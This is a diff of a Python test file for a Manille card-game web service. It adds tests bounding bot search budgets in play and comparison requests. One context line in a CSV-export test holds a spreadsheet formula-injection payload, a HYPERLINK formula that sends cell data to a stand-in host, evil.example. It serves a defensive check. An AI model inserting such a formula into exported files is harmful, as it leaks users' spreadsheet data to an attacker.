@@ -409,6 +409,22 @@ def test_a_page_refusal_is_a_page_in_the_readers_language(c: TestClient) -> None
     assert page.status_code == 400 and '<html lang="fr">' in page.text
 
 
+@pytest.mark.parametrize(("bots", "message"), [
+    ("search:worlds=100000", "bot 'search': worlds at most 200 here (got 100000)"),
+    ("heuristic,search:think_ms=1e9", "bot 'search': think_ms at most 2000 here (got 1e+09)"),
+    ("ismcts:iterations=1000000,random", "bot 'ismcts': iterations at most 20000 here (got 1e+06)"),
+])
+def test_a_bots_budget_is_bounded_for_a_game_and_a_comparison(c: TestClient, bots: str, message: str) -> None:
+    for url, body in (("/api/play", {"seed": 1, "bots": bots}),
+                      ("/api/compare", {"rulesets": ["belgian"], "deals": 1, "bots": bots})):
+        answer = c.post(url, json=body)
+        assert (answer.status_code, answer.json()["error"]) == (400, message), url
+
+
+def test_a_small_budget_is_taken(c: TestClient) -> None:
+    assert c.post("/api/play", json={"seed": 1, "bots": "search:worlds=2,heuristic"}).status_code == 201
+
+
 # ------------------------------------------------------------------ CSV
 def test_a_csv_cell_that_looks_like_a_formula_is_written_as_text(c: TestClient) -> None:
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -429,7 +445,7 @@ def test_a_csv_of_a_sheet_without_names_keeps_its_header(c: TestClient) -> None:
     assert header == "deal,game,dealer,entry,points_a,points_b,total_a,total_b,pending_ties,by,at"
 
 
-@pytest.mark.parametrize("module", ["security", "bodies", "sheets", "search"])
+@pytest.mark.parametrize("module", ["security", "bodies", "sheets", "search", "play"])
 def test_the_docstring_examples_of_the_web_modules_run(module: str) -> None:
     mod = __import__(f"manille_variants.web.{module}", fromlist=["_"])
     assert doctest.testmod(mod).failed == 0
